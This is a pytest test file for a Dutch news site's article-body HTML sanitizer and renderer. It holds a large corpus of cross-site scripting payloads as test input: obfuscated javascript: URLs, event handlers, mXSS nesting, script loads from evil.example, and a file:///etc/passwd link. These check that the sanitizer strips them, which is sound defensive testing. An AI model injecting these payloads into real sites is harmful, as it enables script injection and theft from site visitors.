"""The article body's sanitizer against a corpus of hostile HTML.

Every check reads the output token by token (tests.helpers.html.markup) instead of
searching for substrings: what counts is which tags and attributes are written.
"""

import re
import unicodedata

import pytest

from articles.forms import ArticleAdminForm
from articles.models import Article, Author, Section
from articles.public.rendering import render_body
from articles.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, sanitize_body
from tests.helpers.html import Markup, markup

SAFE_SCHEMES = {"http", "https", "mailto"}
FORBIDDEN_ATTRIBUTES = {"style", "class", "id", "src", "srcdoc", "target"}
# render_body adds these around attributed quotes; class only with these values.
RENDER_TAGS = ALLOWED_TAGS | {"figure", "figcaption", "cite", "span"}
RENDER_ATTRIBUTES = ALLOWED_ATTRIBUTES | {"figure": {"class"}, "span": {"class"}}
RENDER_CLASSES = {"figure": "quote", "span": "quote-who"}


# --- the corpus ---------------------------------------------------------------------

_HANDLERS = ["onclick", "onmouseover", "onerror", "onfocus"]


def _handler_payloads():
    """Each event handler on each allowed tag, and on the tags mapped onto them."""
    for tag in sorted(ALLOWED_TAGS | {"h1", "h4", "h5", "h6", "b", "i"}):
        for handler in _HANDLERS:
            if tag == "br":
                yield f"handler_{tag}_{handler}", f'<p>x<br {handler}="alert(1)">y</p>'
            else:
                yield (
                    f"handler_{tag}_{handler}",
                    f'<{tag} {handler}="alert(1)">x</{tag}>',
                )


HOSTILE = [
    # Script tags in many spellings.
    ("script_plain", "<script>alert(1)</script>"),
    ("script_upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script_mixed_case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script_src", '<script src="https://evil.example/x.js"></script>'),
    ("script_self_closing", "<script src=//evil.example/x.js />"),
    ("script_spaces_in_tags", '<script type="text/javascript" >alert(1)</script >'),
    ("script_newlines_in_tags", "<script\n>alert(1)</script\n>"),
    ("script_slash_attribute", "<script/xss>alert(1)</script>"),
    ("script_split_by_script", "<scr<script>ipt>alert(1)</script>"),
    ("script_double_angle", "<<script>script>alert(1)</script>"),
    ("script_unclosed", "<p>tekst<script>alert(1)"),
    ("script_inside_paragraph", "<p>a<script>alert(1)</script>b</p>"),
    ("script_in_list", "<ul><li><script>alert(1)</script></li></ul>"),
    ("script_in_title_value", '<p title="</p><script>alert(1)</script>">x</p>'),
    ("script_lt_entity_trick", "&lt;script&gt;<script>alert(1)</script>"),
    # Event handlers.
    *_handler_payloads(),
    ("handler_upper_case", '<P ONCLICK="alert(1)">x</P>'),
    ("handler_spaces_around_equals", '<a href="/x" onclick  =  "alert(1)">x</a>'),
    ("handler_after_slash", "<p/onclick=alert(1)>x</p>"),
    ("handler_autofocus_link", '<a href="/x" autofocus onfocus="alert(1)">x</a>'),
    ("handler_autofocus_paragraph", "<p tabindex=1 autofocus onfocus=alert(1)>x</p>"),
    ("handler_on_ol_with_start", '<ol start="2" onclick="alert(1)"><li>x</li></ol>'),
    ("img_onerror", "<img src=x onerror=alert(1)>"),
    ("img_onerror_in_paragraph", "<p>foto <img src=x onerror=alert(1)> tekst</p>"),
    ("img_javascript_src", '<img src="javascript:alert(1)">'),
    ("img_srcset", '<img srcset="x 1x" onerror="alert(1)">'),
    ("body_onload", '<body onload="alert(1)"><p>x</p></body>'),
    ("details_ontoggle", "<details open ontoggle=alert(1)><summary>x</summary>"),
    ("video_onerror", "<video><source onerror=alert(1)></video>"),
    ("audio_onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee_onstart", "<marquee onstart=alert(1)>x</marquee>"),
    # javascript: URLs in many obfuscations.
    ("js_plain", '<a href="javascript:alert(1)">x</a>'),
    ("js_unquoted", "<a href=javascript:alert(1)>x</a>"),
    ("js_upper", '<a href="JAVASCRIPT:alert(1)">x</a>'),
    ("js_mixed_case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("js_leading_spaces", '<a href="   javascript:alert(1)">x</a>'),
    ("js_leading_control", '<a href="\x01javascript:alert(1)">x</a>'),
    ("js_decimal_entity", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("js_padded_entity", '<a href="&#0000106;avascript:alert(1)">x</a>'),
    ("js_entity_no_semicolon", '<a href="&#106avascript:alert(1)">x</a>'),
    (
        "js_hex_entities",
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;'
        '&#x3A;alert(1)">x</a>',
    ),
    ("js_colon_entity", '<a href="javascript&colon;alert(1)">x</a>'),
    ("js_tab", '<a href="java\tscript:alert(1)">x</a>'),
    ("js_tab_entity", '<a href="java&#x09;script:alert(1)">x</a>'),
    ("js_newline", '<a href="java\nscript:alert(1)">x</a>'),
    ("js_newline_entity", '<a href="java&#10;script:alert(1)">x</a>'),
    ("js_carriage_return", '<a href="jav&#x0D;ascript:alert(1)">x</a>'),
    ("js_nul", '<a href="java&#0;script:alert(1)">x</a>'),
    ("js_space_inside", '<a href="java script:alert(1)">x</a>'),
    ("js_zero_width_joiner", '<a href="jav\u200dascript:alert(1)">x</a>'),
    ("js_zero_width_space", '<a href="java\u200bscript:alert(1)">x</a>'),
    ("js_zero_width_entity", '<a href="java&#8205;script:alert(1)">x</a>'),
    ("js_soft_hyphen", '<a href="java&shy;script:alert(1)">x</a>'),
    ("js_rtl_override", '<a href="\u202ejavascript:alert(1)">x</a>'),
    ("js_byte_order_mark", '<a href="\ufeffjavascript:alert(1)">x</a>'),
    ("js_with_allowed_title", '<a href="javascript:alert(1)" title="t">x</a>'),
    (
        "js_in_inline_style_url",
        '<a href="/x" style="background:url(javascript:alert(1))">',
    ),
    ("data_url_html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    (
        "data_url_base64",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    ),
    ("data_url_upper", '<a href="DATA:text/html,alert(1)">x</a>'),
    ("vbscript_url", '<a href="vbscript:msgbox(1)">x</a>'),
    ("vbscript_mixed_case", '<a href="VbScRiPt:alert(1)">x</a>'),
    ("livescript_url", '<a href="livescript:alert(1)">x</a>'),
    ("file_url", '<a href="file:///etc/passwd">x</a>'),
    ("xlink_href", '<a xlink:href="javascript:alert(1)">x</a>'),
    (
        "blockquote_cite_url",
        '<blockquote cite="javascript:alert(1)"><p>x</p></blockquote>',
    ),
    # Embedding elements.
    ("iframe_src", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe_srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("iframe_with_content", "<iframe>alert(1)</iframe><p>x</p>"),
    ("object_data", '<object data="javascript:alert(1)"></object>'),
    ("object_param", '<object><param name="src" value="javascript:alert(1)"></object>'),
    ("embed_src", '<embed src="javascript:alert(1)">'),
    ("applet", '<applet code="x" onload="alert(1)"></applet>'),
    ("frameset", '<frameset onload="alert(1)"><frame src="javascript:alert(1)">'),
    ("svg_onload", "<svg onload=alert(1)>"),
    ("svg_script", "<svg><script>alert(1)</script></svg>"),
    (
        "svg_animate_href",
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        "<text>x</text></a></svg>",
    ),
    (
        "math_maction",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">'
        "x</maction></math>",
    ),
    ("math_href", '<math href="javascript:alert(1)">x</math>'),
    # Styles, forms, document-level elements.
    ("style_tag", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("style_tag_import", '<style>@import "https://evil.example/x.css";</style>'),
    ("style_attribute", '<p style="color:red;background:url(x)">x</p>'),
    ("style_expression", '<p style="width:expression(alert(1))">x</p>'),
    ("class_and_id", '<p class="admin" id="login">x</p>'),
    ("form_action", '<form action="javascript:alert(1)"><input type=submit></form>'),
    ("input_autofocus", "<input autofocus onfocus=alert(1)>"),
    (
        "button_formaction",
        '<form><button formaction="javascript:alert(1)">x</button></form>',
    ),
    ("isindex", '<isindex action="javascript:alert(1)" type=image>'),
    ("textarea", "<textarea onfocus=alert(1) autofocus>x</textarea>"),
    ("select", "<select onfocus=alert(1) autofocus><option>x</option></select>"),
    ("base_href", '<base href="javascript:alert(1)//"><a href="/x">x</a>'),
    ("meta_refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("link_stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
    ("link_import", '<link rel="import" href="https://evil.example/x.html">'),
    # Comments hiding script.
    ("comment_script", "<!--<script>alert(1)</script>-->"),
    ("conditional_comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    (
        "conditional_comment_gte",
        "<!--[if gte IE 4]><SCRIPT>alert(1)</SCRIPT><![endif]-->",
    ),
    ("downlevel_revealed", "<![if !IE]><script>alert(1)</script><![endif]>"),
    ("comment_closed_early", "<!--><script>alert(1)</script>-->"),
    ("comment_bang_close", "<!-- --!><img src=x onerror=alert(1)>-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("processing_instruction", '<?xml version="1.0"?><script>alert(1)</script>'),
    # Attribute breakouts.
    ("breakout_stray_quote", '<a href="x" " onclick=alert(1)>y</a>'),
    ("breakout_no_space", '<a href="x"onclick="alert(1)">y</a>'),
    ("breakout_single_quotes", "<a href='x' onclick='alert(1)'>y</a>"),
    ("breakout_unquoted_comment", "<a href=x onclick=alert(1)//>y</a>"),
    ("breakout_backtick", "<a href=`x` onclick=`alert(1)`>y</a>"),
    ("breakout_double_equals", '<a href=="x" onclick="alert(1)">y</a>'),
    # Unclosed tags.
    ("unclosed_img", "<img src=x onerror=alert(1)"),
    ("unclosed_anchor", '<a href="javascript:alert(1)"'),
    ("unclosed_paragraph_handler", '<p onclick="alert(1)"'),
    ("unclosed_script_start", "<p>x</p><script"),
    ("unclosed_nested", "<p>x<b onclick=alert(1)><i onmouseover=alert(1)>y"),
    # Template and noscript tricks.
    ("template_script", "<template><script>alert(1)</script></template>"),
    ("template_img", "<template><img src=x onerror=alert(1)></template>"),
    (
        "noscript_title_mxss",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    ),
    (
        "noscript_style_mxss",
        "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    ),
    ("xmp_script", "<xmp><script>alert(1)</script></xmp>"),
    ("noembed_script", "<noembed><script>alert(1)</script></noembed>"),
    ("noframes_script", "<noframes><script>alert(1)</script></noframes>"),
    # mXSS-style nesting through foreign content.
    ("mxss_svg_style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    (
        "mxss_math_mglyph",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ),
    (
        "mxss_form_math",
        "<form><math><mtext></form><form><mglyph><style></math>"
        "<img src onerror=alert(1)>",
    ),
    (
        "mxss_p_svg_style",
        "<p><svg><style>*{}</style><img src=x onerror=alert(1)></svg></p>",
    ),
    ("mxss_svg_title", '<svg><title><p title="</title><img src=x onerror=alert(1)>">'),
    # Targets, pings, rel.
    ("target_blank", '<a href="https://example.com" target="_blank">x</a>'),
    (
        "target_with_rel_opener",
        '<a href="https://example.com" target=_blank rel=opener>x</a>',
    ),
    ("ping", '<a href="https://example.com" ping="https://evil.example/track">x</a>'),
    ("ol_start_not_a_number", '<ol start="javascript:alert(1)"><li>x</li></ol>'),
    # Unicode tricks.
    ("rtl_override_text_and_script", "<p>\u202etxt.exe</p><script>alert(1)</script>"),
    ("rtl_override_in_host", '<a href="https://ex\u202eample.com">x</a>'),
    ("zero_width_in_tag_name", "<scr\u200dipt>alert(1)</scr\u200dipt>"),
    ("fullwidth_brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
]
HOSTILE_IDS = [name for name, _ in HOSTILE]


# --- parsing helpers ----------------------------------------------------------------


def href_scheme(href: str) -> str:
    """The scheme a browser would see, "" for a relative address.

    Stricter than a browser: all whitespace, controls and format characters (and
    U+FFFD) are removed first, so hiding characters in a scheme does not hide it.
    """
    squeezed = "".join(
        char
        for char in href
        if not (
            char.isspace()
            or unicodedata.category(char) in {"Cc", "Cf"}
            or char == "\ufffd"
        )
    ).lower()
    match = re.match(r"([a-z][a-z0-9+.\-]*):", squeezed)
    return match.group(1) if match else ""


def assert_safe(
    html: str,
    *,
    allowed_tags=ALLOWED_TAGS,
    allowed_attributes=ALLOWED_ATTRIBUTES,
    classes=None,
) -> Markup:
    """Fail unless ``html`` holds only allowed tags and harmless attributes."""
    classes = classes or {}
    parsed = markup(html)
    assert not parsed.comments, html
    for tag, attrs in parsed.tags:
        assert tag in allowed_tags, (tag, html)
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, html)
            assert name in allowed_attributes.get(tag, set()), (tag, name, html)
            if name == "class" and tag in classes:
                assert value == classes[tag], (tag, value, html)
            else:
                assert name not in FORBIDDEN_ATTRIBUTES, (tag, name, html)
            assert "alert(" not in (value or "").lower(), (tag, name, value, html)
            if name == "href":
                assert href_scheme(value or "") in SAFE_SCHEMES | {""}, (value, html)
    return parsed


def assert_safe_rendered(html: str) -> Markup:
    """:func:`assert_safe` for render_body's output: quote figures are allowed."""
    return assert_safe(
        html,
        allowed_tags=RENDER_TAGS,
        allowed_attributes=RENDER_ATTRIBUTES,
        classes=RENDER_CLASSES,
    )


# --- hostile input ------------------------------------------------------------------


def test_corpus_is_big_enough_and_names_are_unique():
    assert len(HOSTILE) >= 40
    assert len(set(HOSTILE_IDS)) == len(HOSTILE_IDS)


@pytest.mark.parametrize("payload", [p for _, p in HOSTILE], ids=HOSTILE_IDS)
def test_hostile_markup_is_neutralised(payload):
    assert_safe(sanitize_body(payload))


@pytest.mark.parametrize("payload", [p for _, p in HOSTILE], ids=HOSTILE_IDS)
def test_hostile_markup_inside_allowed_markup_is_neutralised(payload):
    """The same payloads nested in a paragraph, a list item and a link."""
    body = (
        f"<p>voor {payload} na</p><ul><li>{payload}</li></ul>"
        f'<p><a href="https://example.com/">{payload}</a></p>'
    )
    assert_safe(sanitize_body(body))


@pytest.mark.parametrize("payload", [p for _, p in HOSTILE], ids=HOSTILE_IDS)
def test_sanitizing_is_idempotent(payload):
    once = sanitize_body(payload)
    assert sanitize_body(once) == once


def test_whole_corpus_at_once_is_safe_and_idempotent():
    body = "\n".join(payload for _, payload in HOSTILE)
    once = sanitize_body(body)
    assert_safe(once)
    assert sanitize_body(once) == once


@pytest.mark.parametrize(
    "hidden",
    [
        "<script>steal('SECRET')</script>",
        "<SCRIPT SRC=//evil.example/x.js>SECRET</SCRIPT>",
        "<script>var s = '<p>SECRET</p>';</script>",
        "<style>p::after { content: 'SECRET' }</style>",
        "<iframe>SECRET</iframe>",
        "<object><p>SECRET</p></object>",
        '<embed src="SECRET">',
        '<p>x<img src="SECRET" alt="SECRET"></p>',
        '<a href="javascript:SECRET()">x</a>',
        "<template><p>SECRET</p></template>",
        "<noscript><p>SECRET</p></noscript>",
        "<svg><text>SECRET</text></svg>",
        "<math><mi>SECRET</mi></math>",
        "<textarea>SECRET</textarea>",
        "<select><option>SECRET</option></select>",
        "<title>SECRET</title>",
        "<xmp>SECRET</xmp>",
        "<noembed>SECRET</noembed>",
        "<noframes>SECRET</noframes>",
        "<!-- SECRET -->",
        "<!--[if IE]><p>SECRET</p><![endif]-->",
    ],
)
def test_dropped_elements_lose_their_content(hidden):
    """Script, style, frame (and similar) content is dropped, not turned into text."""
    body = f"<p>voor</p>{hidden}<p>na</p>"
    cleaned = sanitize_body(body)
    assert "SECRET" not in cleaned
    assert cleaned.startswith("<p>voor</p>") and cleaned.endswith("<p>na</p>")


def test_escaped_markup_stays_escaped_text():
    """Entities are text: the sanitizer never turns them into tags."""
    body = "<p>&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x&gt;</p>"
    assert sanitize_body(body) == body
    parsed = assert_safe(sanitize_body(body))
    assert parsed.tags == [("p", [])]
    assert "".join(parsed.text) == "<script>alert(1)</script> <img src=x>"


def test_script_inside_a_paragraph_leaves_the_paragraph():
    assert sanitize_body("<p>a<script>alert(1)</script>b</p>") == "<p>ab</p>"


def test_quotes_in_attribute_values_cannot_break_out():
    """A title full of markup stays one escaped attribute value."""
    body = '<a href="/x" title=\'"><script>evil()</script><img src=x>\'>link</a>'
    cleaned = sanitize_body(body)
    parsed = assert_safe(cleaned)
    assert parsed.tags == [
        ("a", [("href", "/x"), ("title", '"><script>evil()</script><img src=x>')])
    ]
    assert "".join(parsed.text) == "link"


def test_single_quote_breakout_attempt_stays_inside_the_title():
    body = '<a href="/x" title="x\' onclick=\'evil()">link</a>'
    parsed = assert_safe(sanitize_body(body))
    assert parsed.tags == [("a", [("href", "/x"), ("title", "x' onclick='evil()")])]


@pytest.mark.parametrize(
    ("href", "kept"),
    [
        ("https://example.com/a\nb", "https://example.com/ab"),
        ("ht\u200dtp://example.com/", "http://example.com/"),
        ("https://example.com/\u202efdp.exe", "https://example.com/fdp.exe"),
        ("  /artikel/x/  ", "/artikel/x/"),
    ],
)
def test_invisible_characters_are_removed_from_kept_links(href, kept):
    parsed = markup(sanitize_body(f'<a href="{href}">x</a>'))
    assert parsed.tags == [("a", [("href", kept)])]


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ('<p title="t" lang="en" dir="rtl">x</p>', "<p>x</p>"),
        (
            '<h2 title="t">x</h2><ul lang="en"><li title="t">y</li></ul>',
            "<h2>x</h2><ul><li>y</li></ul>",
        ),
        ('<p><strong title="t">x</strong></p>', "<p><strong>x</strong></p>"),
        (
            '<a href="/x" title="t" lang="en" rel="nofollow" name="n">x</a>',
            '<a href="/x" title="t">x</a>',
        ),
    ],
)
def test_only_the_allowed_attributes_survive(body, expected):
    """No title or lang outside ``a``: nh3 allows both on every tag by default."""
    assert sanitize_body(body) == expected


def test_ol_start_must_be_a_number():
    assert sanitize_body('<ol start="-2"><li>x</li></ol>') == (
        '<ol start="-2"><li>x</li></ol>'
    )
    assert sanitize_body('<ol start="3x"><li>x</li></ol>') == "<ol><li>x</li></ol>"


# --- legitimate content -------------------------------------------------------------

LEGITIMATE = [
    "<p>Eerste alinea.</p><p>Tweede alinea.</p>",
    "<h2>Wie zijn ze?</h2><p>Tekst.</p><h3>Herkomst</h3><p>Meer.</p>",
    "<p><strong>Vet</strong> en <em>schuin</em> en "
    "<strong><em>beide</em></strong>.</p>",
    '<p>Volgens <a href="https://nos.nl/artikel/1">de NOS</a> en '
    '<a href="http://example.com/">een site</a>.</p>',
    '<p><a href="mailto:redactie@example.nl">Mail de redactie</a></p>',
    '<p><a href="/artikel/wat-we-weten/">Lees ook</a> en '
    '<a href="#kader">het kader</a> en <a href="?pagina=2">verder</a>.</p>',
    '<p><a href="https://example.com/" title="Een titel">met titel</a></p>',
    '<p><a href="https://example.com/?a=1&amp;b=2">met query</a></p>',
    "<ul><li>Een</li><li>Twee</li></ul>",
    '<ol start="3"><li>Drie</li><li>Vier</li></ol><ol><li>Een</li></ol>',
    "<ul><li><p>Alinea in een lijst</p><ul><li>genest</li></ul></li></ul>",
    "<blockquote><p>“Citaat”</p><p>— Naam, in Bron</p></blockquote>",
    "<p>Regel een<br>regel twee</p>",
    "<p>a &amp; b &lt; c &gt; d “aanhalingstekens” – streepje</p>",
    "<p>د کابل هوايي ډګر برید</p>",
    "<p>Familie: 👨\u200d👩\u200d👧</p>",
    "<p>Geen&nbsp;breuk</p>",
]


@pytest.mark.parametrize("body", LEGITIMATE)
def test_legitimate_content_survives_exactly(body):
    assert sanitize_body(body) == body
    assert_safe(body)


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("<h1>Kop</h1>", "<h2>Kop</h2>"),
        ('<H1 class="groot">Kop</H1>', "<h2>Kop</h2>"),
        ("<h4>Kop</h4>", "<h3>Kop</h3>"),
        ("<h5>Kop</h5>", "<h3>Kop</h3>"),
        ("<h6 id='x'>Kop</h6>", "<h3>Kop</h3>"),
        (
            "<p><b>vet</b> <i>schuin</i></p>",
            "<p><strong>vet</strong> <em>schuin</em></p>",
        ),
        (
            "<p><B>vet</B><I>schuin</I></p>",
            "<p><strong>vet</strong><em>schuin</em></p>",
        ),
        ('<p><b style="x">vet</b></p>', "<p><strong>vet</strong></p>"),
        ("<p>a<br/>b</p>", "<p>a<br>b</p>"),
        ("<html><body><p>x</p></body></html>", "<p>x</p>"),
        ("<div><p>x</p><span>y</span></div>", "<p>x</p>y"),
        ("<p><u>onder</u><s>door</s></p>", "<p>onderdoor</p>"),
        ("  <p>x</p>\n", "<p>x</p>"),
    ],
)
def test_other_markup_is_mapped_onto_the_subset(body, expected):
    assert sanitize_body(body) == expected


def test_mapping_does_not_touch_longer_tag_names():
    """<bdo>, <iframe>, <h10> are not <b>, <i>, <h1>."""
    assert sanitize_body("<bdo>x</bdo><bx>y</bx><h10>z</h10>") == "xyz"
    assert sanitize_body("<p><big>x</big><ins>y</ins></p>") == "<p>xy</p>"


@pytest.mark.parametrize(
    "body",
    [
        "",
        "   ",
        "<p></p>",
        "<p> </p>",
        "<p><br></p>",
        "<p><br/></p>",
        "<p>&nbsp;</p>",
        "<p>\u00a0</p>",
        "<p></p>\n<p> </p>\n<p><br></p>",
        "<p><script>alert(1)</script></p>",
        "<!-- niets -->",
    ],
)
def test_a_body_of_empty_paragraphs_is_empty(body):
    assert sanitize_body(body) == ""


def test_empty_paragraphs_next_to_text_are_kept():
    assert sanitize_body("<p>x</p><p></p>") == "<p>x</p><p></p>"


# --- the admin form -----------------------------------------------------------------


@pytest.fixture
def form_data(db):
    section = Section.objects.create(name="Buitenland", slug="buitenland")
    author = Author.objects.create(name="Eva Mulder", slug="eva-mulder")

    def data(body):
        return {
            "headline": "Wat we weten",
            "kind": Article.Kind.NEWS,
            "lede": "Een intro.",
            "body": body,
            "section": section.pk,
            "authors": [author.pk],
            "status": Article.Status.DRAFT,
            "language": "nl",
        }

    return data


def test_admin_form_stores_the_sanitized_body(form_data):
    body = (
        '<h1 onclick="alert(1)">Kop</h1><p>Tekst<script>alert(1)</script> '
        '<a href="javascript:alert(1)">link</a> <img src=x onerror=alert(1)></p>'
    )
    form = ArticleAdminForm(data=form_data(body))
    assert form.is_valid(), form.errors
    assert form.cleaned_data["body"] == sanitize_body(body)
    article = form.save()
    article.refresh_from_db()
    assert article.body == "<h2>Kop</h2><p>Tekst <a>link</a> </p>"


def test_admin_form_stores_the_whole_corpus_safely(form_data):
    body = "\n".join(payload for _, payload in HOSTILE)
    form = ArticleAdminForm(data=form_data(body))
    assert form.is_valid(), form.errors
    article = form.save()
    article.refresh_from_db()
    assert_safe(article.body)
    assert article.body == sanitize_body(body)


def test_admin_form_stores_an_empty_body_for_empty_paragraphs(form_data):
    form = ArticleAdminForm(data=form_data("<p></p><p><br></p>"))
    assert form.is_valid(), form.errors
    assert form.save().body == ""


def test_clean_body_sanitizes():
    form = ArticleAdminForm()
    form.cleaned_data = {"body": '<p onclick="alert(1)">x</p><style>p{}</style>'}
    assert form.clean_body() == "<p>x</p>"
    form.cleaned_data = {"body": None}
    assert form.clean_body() == ""


# --- rendering ----------------------------------------------------------------------


@pytest.mark.parametrize("payload", [p for _, p in HOSTILE], ids=HOSTILE_IDS)
def test_rendering_never_lets_hostile_markup_through(payload):
    assert_safe_rendered(str(render_body(payload)))


@pytest.mark.parametrize("payload", [p for _, p in HOSTILE], ids=HOSTILE_IDS)
def test_rendering_hostile_markup_in_an_attributed_quote(payload):
    """Payloads in the quote, the name and the source of an attribution."""
    body = (
        f"<blockquote><p>“{payload}”</p><p>— {payload}Jan, in {payload}NOS</p>"
        "</blockquote>"
    )
    assert_safe_rendered(str(render_body(body)))


def test_rendering_the_whole_corpus_at_once():
    body = "\n".join(payload for _, payload in HOSTILE)
    assert_safe_rendered(str(render_body(body)))
